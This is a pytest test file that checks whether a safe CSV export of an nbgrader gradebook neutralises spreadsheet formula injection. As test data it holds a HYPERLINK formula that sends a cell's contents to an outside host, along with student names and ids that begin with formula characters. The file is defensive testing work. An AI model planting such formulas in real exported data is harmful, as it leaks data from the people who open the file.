"""`nbgrader export` writes marks that a spreadsheet reads as what they are."""

import csv
import datetime
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from graded_course import gradebook
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from nbgrader.plugins.export import ExportPlugin
from small_course import ASSIGNMENT, make_course

from autograder.course import Course
from autograder.export import COLUMNS, SafeCsv, safe_cell

HOSTILE = '=HYPERLINK("http://x/?"&A1,"me")'


def fill(book: Gradebook) -> None:
    """Two students, one of them hostile and with a hand-in, and an assignment of six points."""
    book.add_assignment(ASSIGNMENT, duedate=datetime.datetime(2026, 1, 2, 3, 4))
    book.add_notebook(ASSIGNMENT, ASSIGNMENT)
    book.add_grade_cell("double_test", ASSIGNMENT, ASSIGNMENT, max_score=6, cell_type="code")
    book.add_student("-2+3", first_name=HOSTILE, last_name="O'Neil,\r\n\t@SUM(1)", email="+a@x.org")
    book.add_student("honest", first_name="Änne", last_name="van der -Berg")
    book.add_submission(ASSIGNMENT, "-2+3", timestamp=datetime.datetime(2026, 1, 1))
    book.find_grade("double_test", ASSIGNMENT, ASSIGNMENT, "-2+3").auto_score = 4.5
    book.db.commit()


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.fixture
def course(tmp_path: Path) -> Course:
    course = make_course(tmp_path / "course")
    course.config()  # nbgrader makes a gradebook with a program that the configuration finds
    with gradebook(course) as book:
        fill(book)
    return course


@pytest.fixture
def book(course: Course) -> Iterator[Gradebook]:
    with gradebook(course) as opened:
        yield opened


def export(plugin: ExportPlugin, book: Gradebook, path: Path) -> list[dict[str, str]]:
    plugin.to = str(path)
    plugin.export(book)
    return read(path)


def test_no_cell_of_the_table_is_a_formula(book: Gradebook, tmp_path: Path) -> None:
    rows = export(SafeCsv(), book, tmp_path / "marks.csv")
    hostile = next(row for row in rows if "2+3" in row["student_id"])
    assert hostile["student_id"] == "'-2+3"
    assert hostile["first_name"] == f"'{HOSTILE}"
    assert hostile["last_name"] == "O'Neil,   @SUM(1)"
    assert hostile["email"] == "'+a@x.org"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_columns_and_honest_values_are_those_of_nbgraders_own_export(book: Gradebook, tmp_path: Path) -> None:
    book.update_or_create_student("-2+3", first_name="Eve", last_name="Doe", email="e@x.org")
    ours = export(SafeCsv(), book, tmp_path / "ours.csv")
    theirs = export(CsvExportPlugin(), book, tmp_path / "theirs.csv")
    assert list(ours[0]) == list(theirs[0]) == list(COLUMNS)
    assert [{**row, "student_id": row["student_id"].removeprefix("'")} for row in ours] == theirs
    assert (ours[0]["score"], ours[0]["max_score"]) == ("4.5", "6.0")


def test_numbers_stay_numbers_and_are_not_quoted(book: Gradebook, tmp_path: Path) -> None:
    export(SafeCsv(), book, tmp_path / "marks.csv")
    lines = (tmp_path / "marks.csv").read_text().splitlines()
    assert lines[1].endswith(",4.5,0.0,4.5,6.0")
    assert safe_cell(-1.5) == -1.5


def test_students_and_assignments_can_be_chosen(book: Gradebook, tmp_path: Path) -> None:
    assert [row["student_id"] for row in export(SafeCsv(student=["honest"]), book, tmp_path / "a.csv")] == ["honest"]
    assert export(SafeCsv(assignment=["other"]), book, tmp_path / "b.csv") == []


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1"])
def test_a_text_that_a_spreadsheet_would_calculate_becomes_text(text: str) -> None:
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert cell.isprintable()


def test_the_command_of_nbgrader_takes_it_from_the_course(course: Course, tmp_path: Path) -> None:
    command = [sys.executable, "-m", "nbgrader", "export", "--to", str(tmp_path / "marks.csv")]
    done = subprocess.run(command, cwd=course.root, env=dict(os.environ), capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "'-2+3" in {row["student_id"] for row in read(tmp_path / "marks.csv")}
